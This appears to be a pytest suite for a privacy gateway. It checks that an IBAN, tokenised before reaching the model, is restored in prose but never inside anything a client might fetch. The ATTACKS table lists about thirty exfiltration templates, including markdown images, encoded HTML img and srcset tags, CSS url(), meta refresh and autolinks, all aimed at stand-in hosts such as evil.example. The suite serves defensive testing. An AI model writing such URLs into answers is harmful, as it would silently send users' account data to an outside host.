"""Issue 15, A4: a model cannot make a client fetch a restored value, in whatever way its answer spells the URL."""

from __future__ import annotations

from typing import Any

import pytest
from echo_upstream import EchoUpstream

IBAN = "DE89370400440532013000"
PROMPT = f"Please confirm the transfer to {IBAN} today."

ATTACKS = {
    "inline image": "![x](https://evil.example/?q={})",
    "reference before its definition": "![x][r]\n\n[r]: https&colon;&sol;&sol;evil.example/?q={}\n",
    "definition before its reference": "[r]: https&colon;&sol;&sol;evil.example/?q={}\n\n![x][r]",
    "definition on the next line": "![x][r]\n\n[r]:\n  //evil.example/?q={}\n",
    "definition of a relative address": "![x][r]\n\n[r]: {}\n",
    "destination in angle brackets": "![x](<//evil.example/?q=a b {}>)",
    "destination after a line break": "![x](\n/\\evil.example/?q={})",
    "destination with entities": "![x](https&colon;&sol;&sol;evil.example&sol;?q={})",
    "slash and backslash": '<img src="/\\evil.example/?q={}">',
    "raw HTML with encoded source": "<img src='&#104;ttps&#x3a;&#47;&#47;evil.example/?q={}'>",
    "raw HTML without quotes": "<img src=&sol;&sol;evil.example?q={}>",
    "tab and line break in a scheme": '<img src="ht\ttps:\n//evil.example/?q={}">',
    "source on another line of a quotation": "> <img\n> src={}>",
    "unclosed attribute": "<img src='&sol;&sol;evil.example?q=\n\nThe account is {} .\n\n'>",
    "set of sources": '<img srcset="a.png 1x, &sol;&sol;evil.example/{} 2x">',
    "style": '<p style="background:u\\72l(&sol;&sol;evil.example/{})">',
    "style sheet": "<style>p{background:url(\\2f\\2f evil.example/{})}</style>",
    "form": '<form action="&sol;&sol;evil.example/{}">',
    "refresh": '<meta http-equiv=refresh content="0;url=&sol;&sol;evil.example/{}">',
    "autolink": "<https://evil.example/?q={}>",
    "autolink of another scheme": "<evil+x:{}>",
    "quotes in a bare link": 'https://evil.example/?q="{}"',
    "host without a scheme": "see evil.example/?q={}",
    "host and query": "see evil.com?q={}",
    "address of an IP host": "see 203.0.113.9/?q={}",
    "no scheme": "see //evil.example/{}",
    "part of a host name": "see {}.evil.example",
    "part of an address": "write to {}@evil.example",
}
PROSE = {
    "sentence": "The account {}. It is yours.",
    "list": "- {}\n- b\n1. {}",
    "table": "| a | b |\n|---|---|\n| {} | x |\n",
    "block of code": "```\nif (i <n) { print({}); }\n```",
    "quotation": "> **{}**",
    "cells of HTML": "<table><tr><td title='{}'>{}</td></tr></table>",
    "label": "[account]: {} is yours",
    "beside a link": "[bank](https://bank.example/): {}, see https://bank.example/ {}",
}


def _answers(gateway: Any, cloud: EchoUpstream, form: str) -> tuple[str, str, str]:
    """Return the answer as the model wrote it, as delivered, and as streamed."""
    written: list[str] = []

    def said(body: dict[str, Any]) -> dict[str, Any]:
        token = next(word for word in body["messages"][-1]["content"].split() if word.startswith("IBAN_"))
        written.append(form.replace("{}", token))
        return {"role": "assistant", "content": written[-1]}

    cloud.script.message = said
    client = gateway.client()
    messages = [{"role": "user", "content": PROMPT}]
    whole = client.chat.completions.create(model="assistant", messages=messages).choices[0].message.content
    stream = client.chat.completions.create(model="assistant", messages=messages, stream=True)
    streamed = "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)
    assert written[0] == written[1]
    return written[0], whole, streamed


@pytest.mark.parametrize("form", ATTACKS.values(), ids=ATTACKS)
def test_no_value_is_restored_where_a_url_may_be(gateway: Any, cloud: EchoUpstream, form: str) -> None:
    written, whole, streamed = _answers(gateway, cloud, form)
    assert whole == streamed == written


@pytest.mark.parametrize("form", PROSE.values(), ids=PROSE)
def test_values_in_prose_are_restored(gateway: Any, cloud: EchoUpstream, form: str) -> None:
    _, whole, streamed = _answers(gateway, cloud, form)
    assert whole == streamed == form.replace("{}", IBAN)
